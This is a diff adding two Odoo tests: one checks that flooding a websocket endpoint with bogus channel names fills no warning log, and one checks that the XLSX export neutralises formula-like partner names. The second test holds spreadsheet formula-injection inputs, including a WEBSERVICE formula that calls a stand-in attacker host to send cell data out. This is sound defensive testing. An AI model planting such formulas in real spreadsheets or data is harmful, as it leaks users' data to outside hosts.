@@ -3,7 +3,11 @@
 """Over real HTTP: a revoke counts at the next request; faults are readable."""
 
 import base64
+import io
+import json
 from unittest.mock import patch
+
+from openpyxl import load_workbook
 
 from odoo.http import Request
 from odoo.tests import tagged
@@ -191,3 +195,41 @@ class TestHttpAccess(DossierHttpCommon):
         layout = {"is_html_empty": bool, "lang": "en_US", "signature": "", **values}
         mail = self.env["ir.qweb"]._render("mail.mail_notification_light", layout)
         self.assertIn(key, str(mail))
+
+    def test_who_subscribes_to_nonsense_fills_no_log(self):
+        asked = ["odoo-presence-x", "x" * 201] * 50 + [f"x{number}" for number in range(3000)]
+        self.authenticate(None, None)
+        with self.assertNoLogs("odoo.addons.mail.models.ir_websocket", "WARNING"):
+            answer = self.url_open(
+                "/websocket/peek_notifications",
+                json={"params": {"channels": asked, "last": 0, "is_first_poll": True}},
+            ).json()
+        heard = [channel[1] for channel in answer["result"]["channels"]]
+        self.assertEqual([word for word in heard if word.startswith("x")][-1], "x899")
+
+    def test_a_name_is_no_formula_in_the_spreadsheet_of_a_list(self):
+        names = [
+            "=1+1",
+            "{=1+1}",
+            '=WEBSERVICE("https://evil.example/"&A2)',
+            "https://evil.example",
+        ]
+        made = [self._relation(self.bakery, name).id for name in names]
+        self._login(self.accountant)
+        asked = {
+            "model": "res.partner",
+            "fields": [{"name": name, "label": name, "type": "char"} for name in ("name", "email")],
+            "ids": made,
+            "domain": [],
+            "import_compat": False,
+            "context": {"allowed_company_ids": self.bakery.company_id.ids},
+        }
+        for groupby in ([], ["name"]):
+            data = json.dumps({**asked, "groupby": groupby})
+            form = {"data": data, "csrf_token": Request.csrf_token(self)}
+            answer = self.url_open("/web/export/xlsx", data=form)
+            sheet = load_workbook(io.BytesIO(answer.content)).active
+            cells = [cell for [cell, *_rest] in sheet.iter_rows(min_row=2)]
+            self.assertLessEqual(set(names), {cell.value for cell in cells})
+            self.assertEqual({cell.data_type for cell in cells}, {"s"})
+            self.assertFalse([cell for cell in cells if cell.hyperlink])
